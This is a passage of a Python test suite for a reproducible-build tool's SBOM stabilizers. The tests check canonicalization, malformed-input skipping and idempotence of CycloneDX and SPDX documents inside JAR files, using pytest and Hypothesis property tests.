    new = spdx.canonicalize(spdx_maven_json(), False, spdx.Notes())
    assert new is not None
    doc = json.loads(new)
    assert "documentNamespace" not in doc and "created" not in doc["creationInfo"]
    assert doc["creationInfo"]["creators"] == ["Tool: spdx-maven-plugin", "Organization: Example Corp"]
    assert doc["creationInfo"]["licenseListVersion"] == "3.22"
    assert [c["algorithm"] for c in doc["packages"][1]["checksums"]] == ["MD5", "SHA1"]
    assert SPDX.category is Category.SBOM


@pytest.mark.parametrize(("data", "path", "reason"), [
    (b'{"spdxVersion": "SPDX-2.3", "packages": [}', "a.spdx.json", "malformed JSON"),
    (b"SPDXVersion: SPDX-2.3\nPackageComment: <text>never closed\n", "a.spdx", "never closed"),
    (b"SPDXVersion: SPDX-2.3\nthis is not a field\n", "a.spdx", "not 'Tag: value'"),
    (b"DataLicense: CC0-1.0\n", "a.spdx", "no SPDXVersion"),
    (b"SPDXVersion: SPDX-2.3\nCreator: \xff\n", "a.spdx", "not UTF-8"),
])
def test_spdx_malformed_is_skipped(data: bytes, path: str, reason: str) -> None:
    c = ctx()
    with pytest.raises(StabilizerSkip, match=reason):
        apply(SPDX, entry(path, data), c)
    assert not c.findings


def test_spdx_ignores_other_files_and_is_idempotent() -> None:
    c = ctx()
    for path, data in [("x.json", b'{"a": 1}'), ("bom.json", cdx_json(Build())), ("y.spdx.json", b'{"a": 1}')]:
        e = entry(path, data)
        assert apply(SPDX, e, c) is e
    e = entry("META-INF/sbom/app.spdx.json", spdx_maven_json())
    once = apply(SPDX, e, c)
    assert once is not e and apply(SPDX, once, c) is once


# --------------------------------------------------------------------------------------------- codecs & properties

@pytest.mark.parametrize(("text", "name", "version"), [
    ("syft-0.84.1", "syft", "0.84.1"), ("syft-v1.0.0", "syft", "1.0.0"),
    ("SPDX-Java-Tools v1.1.8", "SPDX-Java-Tools", "1.1.8"), ("spdx-maven-plugin", "spdx-maven-plugin", None),
    ("cdxgen-9.8.10-SNAPSHOT", "cdxgen", "9.8.10-SNAPSHOT"), ("log4j2", "log4j2", None),
])
def test_split_tool_version(text: str, name: str, version: str | None) -> None:
    assert fmt.split_tool_version(text) == (name, version)


def test_strip_purl_version() -> None:
    assert fmt.strip_purl_version("pkg:maven/org.cyclonedx/cyclonedx-maven-plugin@2.7.9?type=jar") == \
        "pkg:maven/org.cyclonedx/cyclonedx-maven-plugin?type=jar"
    assert fmt.strip_purl_version("pkg:npm/%40scope/x@1.0#sub") == "pkg:npm/%40scope/x#sub"


JSON_SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | \
    st.text(max_size=12)
JSON_VALUES = st.recursive(JSON_SCALARS, lambda inner: st.lists(inner, max_size=4)
                           | st.dictionaries(st.text(max_size=8), inner, max_size=4), max_leaves=20)
CDX_KEYS = st.sampled_from(["serialNumber", "metadata", "components", "dependencies", "timestamp", "tools",
                            "component", "version", "hashes", "purl", "bom-ref", "ref", "dependsOn", "alg",
                            "content", "name", "services", "provides", "x"])
CDX_VALUES = st.recursive(
    JSON_SCALARS | st.sampled_from(["urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79", "SHA-256", "pkg:m/a@1"]),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(CDX_KEYS, inner, max_size=5), max_leaves=30)
CDX_DOCS = st.dictionaries(CDX_KEYS, CDX_VALUES, max_size=6).map(lambda d: {**d, "bomFormat": "CycloneDX"})

FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FAST
@given(CDX_DOCS, st.booleans())
def test_property_cyclonedx_json_idempotent(doc: dict[str, object], ascii_only: bool) -> None:
    try:
        data = json.dumps(doc, ensure_ascii=ascii_only).encode("utf-8", "surrogatepass")
        once = cdx.canonicalize(data, False, cdx.Notes())
    except StabilizerSkip:
        return
    assert once is not None
    assert cdx.canonicalize(once, False, cdx.Notes()) == once


@FAST
@given(st.dictionaries(st.sampled_from(["spdxVersion", "creationInfo", "created", "creators", "packages",
                                        "relationships", "checksums", "SPDXID", "documentNamespace", "files"]),
                       JSON_VALUES | st.lists(st.sampled_from(["Tool: syft-0.84.1", "Tool: x v2.0", "Person: a"])),
                       max_size=6).map(lambda d: {**d, "spdxVersion": "SPDX-2.3"}))
def test_property_spdx_json_idempotent(doc: dict[str, object]) -> None:
    try:
        once = spdx.canonicalize(json.dumps(doc).encode(), False, spdx.Notes())
    except StabilizerSkip:
        return
    assert once is not None
    assert spdx.canonicalize(once, False, spdx.Notes()) == once


@FAST
@given(st.binary(max_size=300) | st.text(max_size=200).map(str.encode))
def test_property_arbitrary_bytes_parse_or_skip(data: bytes) -> None:
    for xml in (False, True):
        with contextlib.suppress(StabilizerSkip):
            cdx.canonicalize(data, xml, cdx.Notes())
    for tag_value in (False, True):
        with contextlib.suppress(StabilizerSkip):
            spdx.canonicalize(data, tag_value, spdx.Notes())


@FAST
@given(JSON_VALUES)
def test_property_json_codec_fixed_point(value: object) -> None:
    try:
        once = fmt.dump_json(value)
    except fmt.SbomError:
        return
    assert fmt.dump_json(fmt.parse_json(once)) == once


@FAST
@given(st.lists(st.sampled_from(["SPDXVersion", "Created", "Creator", ":", " ", "Tool", "-1.2", "\n", "\r",
                                 "<text>", "</text>", "#", "x", "é"]), max_size=40).map("".join))
def test_property_tag_value_round_trip(text: str) -> None:
    try:
        fields = fmt.parse_tag_value(text)
    except fmt.SbomError:
        return
    assert fmt.join_tag_value(fields) == text
    try:
        once = spdx.canonical_tag_value(text, spdx.Notes())
    except fmt.SbomError:
        return
    assert spdx.canonical_tag_value(once, spdx.Notes()) == once


XML_NAMES = st.sampled_from(["component", "components", "hashes", "hash", "purl", "dependency", "dependencies",
                             "metadata", "timestamp", "tools", "tool", "version", "name"])


@st.composite
def xml_elements(draw: st.DrawFn, depth: int = 0) -> str:
    tag = draw(XML_NAMES)
    attrs = draw(st.dictionaries(st.sampled_from(["ref", "bom-ref", "alg", "type"]),
                                 st.sampled_from(["a", "b", "SHA-1", "MD5", "pkg:m/x@1"]), max_size=2))
    attr_text = "".join(f' {k}="{v}"' for k, v in attrs.items())
    kids = [] if depth > 2 else draw(st.lists(xml_elements(depth + 1), max_size=3))
    text = draw(st.sampled_from(["", "x", " ", "2.7.9", "pkg:m/y@2?t=j", "&amp;"]))
    ws = draw(st.sampled_from(["", "\n", "\n    ", " "]))
    return f"<{tag}{attr_text}>{text}{ws}{ws.join(kids)}{ws}</{tag}>"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(xml_elements(), max_size=3), st.sampled_from(["1.4", "1.5"]),
       st.sampled_from(["", ' serialNumber="urn:uuid:3e671687-395b-41f5-a30f-a58921a69b79"']))
def test_property_cyclonedx_xml_idempotent(kids: list[str], spec: str, serial: str) -> None:
    data = f'<bom xmlns="http://cyclonedx.org/schema/bom/{spec}"{serial}>{"".join(kids)}</bom>'.encode()
    once = cdx.canonicalize(data, True, cdx.Notes())
    assert once is not None and b"serialNumber" not in once
    assert cdx.canonicalize(once, True, cdx.Notes()) == once


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(xml_elements(), max_size=3), st.sampled_from(["", "  ", "\t"]))
def test_property_cyclonedx_xml_ignores_indentation(kids: list[str], indent: str) -> None:
    """The canonical XML does not depend on the whitespace between elements (how the writer indented)."""
    data = f'<bom xmlns="http://cyclonedx.org/schema/bom/1.5">{"".join(kids)}</bom>'.encode()
    tree = fmt.parse_xml(data)
    etree.indent(tree, space=indent or "  ")
    if not indent:  # compact: drop the whitespace between elements instead
        for el in tree.iter():
            if len(el) and el.text is not None and not el.text.strip():
                el.text = None
            if el.tail is not None and not el.tail.strip():
                el.tail = None
    other = etree.tostring(tree)
    assert cdx.canonicalize(other, True, cdx.Notes()) == cdx.canonicalize(data, True, cdx.Notes())


def _comp(name: str, *nested: str) -> str:
    inner = f"<components>{''.join(nested)}</components>" if nested else ""
    return f'<component type="library"><name>{name}</name>{inner}</component>'


TRICKY_XML = [
    # a parent whose nested list gets reordered ties with another parent on bom-ref and purl
    _comp("p", _comp("c2"), _comp("c1")) + _comp("p", _comp("c1"), _comp("c3")),
    # a component with bare text ties with one with children: the tie-break must not look at indentation
    _comp("b") + '<component type="library">1</component>' + _comp("a"),
]


@pytest.mark.parametrize("components", TRICKY_XML, ids=["nested-reorder", "text-component"])
def test_xml_component_order_ignores_whitespace(components: str) -> None:
    compact = f'<bom xmlns="http://cyclonedx.org/schema/bom/1.4"><components>{components}</components></bom>'
    tree = fmt.parse_xml(compact.encode())
    etree.indent(tree, space="    ")
    indented = etree.tostring(tree)
    a = cdx.canonicalize(compact.encode(), True, cdx.Notes())
    b = cdx.canonicalize(indented, True, cdx.Notes())
    assert a is not None and a == b
    assert cdx.canonicalize(a, True, cdx.Notes()) == a


def test_together_with_the_zip_stabilizers() -> None:
    """A whole rebuilt JAR (other entry times, order) with both SBOM kinds: equivalent with all stabilizers."""
    from canonjar.stabilizers import BUILTIN

    b = Build(spec="1.5")
    ref = make_zip([Item("META-INF/MANIFEST.MF", MF), Item("META-INF/sbom/application.cdx.json", cdx_json(b)),
                    Item("META-INF/sbom/application.spdx", syft_tag_value()), Item("com/example/App.class", CLS)])
    reb = make_zip([Item("META-INF/MANIFEST.MF", MF, date_time=(2024, 5, 6, 7, 8, 10)),
                    Item("com/example/App.class", CLS, date_time=(2024, 5, 6, 7, 8, 10)),
                    Item("META-INF/sbom/application.spdx", syft_tag_value(created="2024-05-06T07:08:09Z")),
                    Item("META-INF/sbom/application.cdx.json", cdx_json(other_run(b)))])
    stabs = [s for s in BUILTIN if s.name not in ("sbom-cyclonedx", "sbom-spdx")] + [CDX, SPDX]
    out = compare_bytes(ref, reb, stabilizers=stabs)
    assert out.verdict is Verdict.EQUIVALENT, out.differences
